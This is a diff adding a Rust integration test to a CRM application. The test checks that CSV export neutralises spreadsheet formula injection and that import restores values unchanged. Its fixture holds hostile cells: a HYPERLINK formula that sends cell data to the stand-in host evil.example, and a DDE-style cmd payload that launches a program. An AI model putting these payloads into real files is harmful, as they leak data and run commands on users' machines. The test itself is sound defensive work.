@@ -284,3 +284,95 @@ async fn the_customer_page_shows_a_customer_only_to_those_who_may_see_it() {
         .unwrap();
     assert_eq!(owner, "ann");
 }
+
+#[tokio::test]
+async fn exported_cells_never_run_as_formulas_and_import_back_unchanged() {
+    let s = site().await;
+    // A file as the export writes it (formula cells behind a quote), and a raw
+    // one: the import removes exactly the export's quote and keeps the rest.
+    let csv = "name,company,phone\n\
+               \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"c\"\")\",'+cmd|' /C calc'!A0,'+8613800000000\n\
+               \"\t=1+1\",'plain,@home\n";
+    let form = serde_urlencoded::to_string([("csv", csv)]).unwrap();
+    let (status, location, _, html) = s.send("POST", "/crm/import", Some("bob"), &form).await;
+    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
+    let job: i64 = location
+        .unwrap()
+        .rsplit('/')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    let mut conn = rusqlite::Connection::open(s.db.path().unwrap()).unwrap();
+    let now = chrono::Utc::now();
+    while ordo_crm::import::advance(&mut conn, job, 200, now)
+        .unwrap()
+        .is_some_and(|j| j.status != "done")
+    {}
+    let stored: Vec<(String, Option<String>, Option<String>)> = {
+        let mut st =
+            s.db.prepare("SELECT name, company, phone FROM crm_customers WHERE id > 3 ORDER BY id")
+                .unwrap();
+        st.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+            .unwrap()
+            .map(Result::unwrap)
+            .collect()
+    };
+    assert_eq!(
+        stored,
+        [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")".to_owned(),
+                Some("+cmd|' /C calc'!A0".to_owned()),
+                Some("+8613800000000".to_owned()),
+            ),
+            (
+                "\t=1+1".to_owned(),
+                Some("'plain".to_owned()),
+                Some("@home".to_owned()),
+            ),
+        ]
+    );
+    // Exported, every cell that a spreadsheet would run starts with a quote.
+    let (status, _, _, body) = s.send("GET", "/crm/customers.csv", Some("bob"), "").await;
+    assert_eq!(status, StatusCode::OK);
+    let mut rows = csv::Reader::from_reader(body.as_bytes());
+    let headers = rows.headers().unwrap().clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let mut cells: Vec<(String, String, String)> = rows
+        .records()
+        .map(Result::unwrap)
+        .filter(|r| r[col("name")].contains("=1+1") || r[col("name")].contains("HYPERLINK"))
+        .map(|r| {
+            (
+                r[col("name")].to_owned(),
+                r[col("company")].to_owned(),
+                r[col("phone")].to_owned(),
+            )
+        })
+        .collect();
+    cells.sort();
+    assert_eq!(
+        cells,
+        [
+            (
+                "'\t=1+1".to_owned(),
+                "'plain".to_owned(),
+                "'@home".to_owned(),
+            ),
+            (
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")".to_owned(),
+                "'+cmd|' /C calc'!A0".to_owned(),
+                "'+8613800000000".to_owned(),
+            ),
+        ]
+    );
+    for (name, company, phone) in &cells {
+        for cell in [name, company, phone] {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run as a formula"
+            );
+        }
+    }
+}
